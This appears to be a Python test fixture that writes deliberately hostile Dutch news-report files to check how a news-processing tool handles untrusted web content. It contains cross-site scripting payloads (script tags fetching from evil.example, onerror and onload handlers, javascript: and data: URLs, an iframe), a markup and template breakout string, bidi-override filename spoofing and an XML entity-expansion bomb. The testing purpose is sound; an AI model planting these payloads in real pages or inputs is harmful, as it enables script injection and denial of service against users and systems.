"""Reports that try to run, load, send, turn, flood or break something: what any page on the web may hold."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path

SCRIPT = "<script>window.zegsmanHit = 1; fetch('http://evil.example/x')</script>"
IMAGE = '<img src="http://evil.example/p.png" onerror="window.zegsmanHit = 2">'
BREAK = "\"'>--></style></title></textarea></option></select>{{ 7*7 }}{% raw %}"
TURNED = "\u202etxt.exe\u202c \u2066omgedraaid"
BOMB = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))


def write_hostile_reports(folder: Path) -> list[str]:
    """Writes them, and one report that is nothing but a report, and gives their paths."""
    folder.mkdir()
    plain = (
        "De brug bij Zandwijk is dinsdag gesloten, zegt wethouder Karel de Wit. De Wit ontkent dat de brug onveilig "
        "is. Volgens de provincie is de brug wel onveilig."
    )
    reports = {
        "plain.txt": f"---\noutlet: De Loper\ndate: 2024-05-02\ntitle: Brug dicht\n---\n{plain}\n",
        "front.txt": f"---\noutlet: {SCRIPT}{BREAK}\ndate: 2024-05-02\ntitle: {IMAGE}{TURNED}\n"
        f"author: {SCRIPT}\nagency: {IMAGE}\nurl: javascript:window.zegsmanHit=3\n---\n{plain} {SCRIPT}\n",
        "names.txt": f"---\noutlet: De Kaai\ndate: 2024-05-03\n---\nDe brug bij Zandwijk is dinsdag gesloten, zegt "
        f"Karel <b>de</b> {IMAGE} Wit. ‘{SCRIPT}’, zegt Karel de Wit. Volgens {BREAK} is de brug {TURNED} onveilig.\n",
        "word.txt": "---\noutlet: De Lange\ndate: 2024-05-04\n---\nDe brug bij Zandwijk is dinsdag gesloten, zegt "
        f"wethouder Karel de Wit. {'lang' * 250_000}\n",
        "page.html": f"<!DOCTYPE html [<!ENTITY a0 'ha'>{BOMB}]><html><head><title>{BREAK}{SCRIPT}</title>"
        f'<meta property="og:url" content="javascript:window.zegsmanHit=4"><link rel="canonical" '
        f'href="data:text/html,{SCRIPT}"></head><body><article><h1>{TURNED}</h1><p>{plain} &a9;</p>{SCRIPT}{IMAGE}'
        f'<iframe src="http://evil.example/"></iframe><svg onload="window.zegsmanHit=5"></svg></article></body></html>',
    }
    for name, text in reports.items():
        (folder / name).write_text(text, encoding="utf-8")
    return [str(folder / name) for name in reports]
